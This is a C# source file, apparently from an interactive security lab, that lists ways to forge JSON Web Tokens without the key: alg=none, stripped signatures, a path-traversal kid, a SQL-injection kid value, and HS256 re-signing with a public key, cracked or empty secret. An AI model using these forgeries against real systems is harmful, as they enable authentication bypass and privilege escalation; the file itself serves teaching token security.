namespace Visualizer.Dashboard.Labs.JwtSecurity;

/// <summary>One thing that somebody without the key can do to a token. What needs a re-signing says so: nothing is re-signed behind one's back.</summary>
/// <param name="Key">Its name in the address.</param>
/// <param name="Label">What its button says.</param>
/// <param name="About">What it does, and what it bets on.</param>
/// <param name="Apply">The token after it; the second argument is what the attacker has found out. Null where that is not enough yet.</param>
internal sealed record ForgeStep(string Key, string Label, string About, Func<TokenText, Loot, TokenText?> Apply)
{
    /// <summary>Most steps on one token.</summary>
    public const int Most = 12;

    public static readonly IReadOnlyList<ForgeStep> Changes =
    [
        new("admin", "role = admin", "Changes a claim. The old signature no longer fits.", (token, _) => token.WithClaim("role", "admin")),
        new("none", "alg = none", "Asks the verifier not to verify.", (token, _) => token.WithHeader("alg", "none")),
        new("drop", "Drop the signature", "Nothing after the second dot.", (token, _) => token with { Signature = "" }),
        new("path", "kid = a path", "Bets that kid is opened as a file: an empty one makes an empty secret.", (token, _) => token.WithHeader("kid", "../../../../dev/null")),
        new("query", "kid = a query", "Bets that kid is pasted into SQL.", (token, _) => token.WithHeader("kid", "x' UNION SELECT 'k")),
    ];

    public static readonly IReadOnlyList<ForgeStep> Signings =
    [
        new("pem", "Re-sign: public key as secret", "HS256, with the text of the published key for a secret: algorithm confusion.", (token, loot) => loot.Pem is { } pem ? token.SignedWith(pem) : null),
        new("guess", "Re-sign: cracked secret", "HS256, with the word that fits the leaky token.", (token, loot) => loot.Secret is { } secret ? token.SignedWith(secret) : null),
        new("empty", "Re-sign: empty secret", "HS256, with what a file of nothing holds.", (token, _) => token.SignedWith("")),
    ];

    public static ForgeStep? Find(string key) => Changes.Concat(Signings).FirstOrDefault(step => step.Key == key);

    /// <summary>The steps that an address names, in order; unknown ones are left out.</summary>
    public static IReadOnlyList<ForgeStep> Read(string? address) => [.. (address ?? "").Split('.').Select(Find).OfType<ForgeStep>().Take(Most)];

    public static string? Write(IEnumerable<ForgeStep> steps) => string.Join('.', steps.Select(step => step.Key)) is { Length: > 0 } text ? text : null;

    /// <summary>A token after all steps, in order.</summary>
    public static TokenText All(TokenText token, IEnumerable<ForgeStep> steps, Loot loot) => steps.Aggregate(token, (so, step) => step.Apply(so, loot) ?? so);
}
